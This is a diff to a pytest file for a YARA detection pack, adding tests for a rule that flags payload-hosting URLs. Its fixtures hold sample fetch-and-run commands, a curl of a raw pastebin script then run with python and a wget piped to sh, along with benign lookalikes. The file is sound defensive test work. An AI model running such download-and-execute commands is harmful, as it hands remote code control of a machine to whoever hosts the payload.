@@ -39,9 +39,20 @@ OOB_HITS = [
 ]
 OOB_MISSES = ["u = 'https://toast.fun.example.invalid'\n", "u = 'https://pipedream.com/docs'\n",
               "u = 'https://myiplogger.example.invalid/'\n"]
+PAYLOAD_HOST_HITS = [
+    "curl -sL https://pastebin.com/raw/AbCd1234 -o %TEMP%\\h.py && python %TEMP%\\h.py\n",  # a decoded command
+    "wget https://transfer.sh/abc/run.sh -O- | sh\n",
+    "u = 'https://cdn.discordapp.com/attachments/1/2/update.exe'\n",
+]
+PAYLOAD_HOST_MISSES = [
+    "see https://pastebin.com/AbCd1234 for the log\n",  # a paste page, not its raw payload
+    "u = 'https://cdn.discordapp.com/attachments/1/2/avatar.png'\n",
+]
 # What tests/yara/test_pack.py checks every rule has.
-POSITIVE = {"encoded_endpoint": ENDPOINT_HITS, "oob_destination_domain": OOB_HITS}
-BENIGN = {"encoded_endpoint": ENDPOINT_MISSES, "oob_destination_domain": OOB_MISSES}
+POSITIVE = {"encoded_endpoint": ENDPOINT_HITS, "oob_destination_domain": OOB_HITS,
+            "payload_host_url": PAYLOAD_HOST_HITS}
+BENIGN = {"encoded_endpoint": ENDPOINT_MISSES, "oob_destination_domain": OOB_MISSES,
+          "payload_host_url": PAYLOAD_HOST_MISSES}
 
 
 @pytest.mark.parametrize("text", ENDPOINT_HITS)
@@ -62,3 +73,13 @@ def test_oob_destination_hits_apex_and_subdomains(pack, text):
 @pytest.mark.parametrize("text", OOB_MISSES)
 def test_oob_destination_misses_lookalikes(pack, text):
     assert "oob_destination_domain" not in rules_hit(pack, text)
+
+
+@pytest.mark.parametrize("text", PAYLOAD_HOST_HITS)
+def test_payload_host_hits_raw_pastes_and_shared_executables(pack, text):
+    assert "payload_host_url" in rules_hit(pack, text)
+
+
+@pytest.mark.parametrize("text", PAYLOAD_HOST_MISSES)
+def test_payload_host_misses_pages_and_images(pack, text):
+    assert "payload_host_url" not in rules_hit(pack, text)
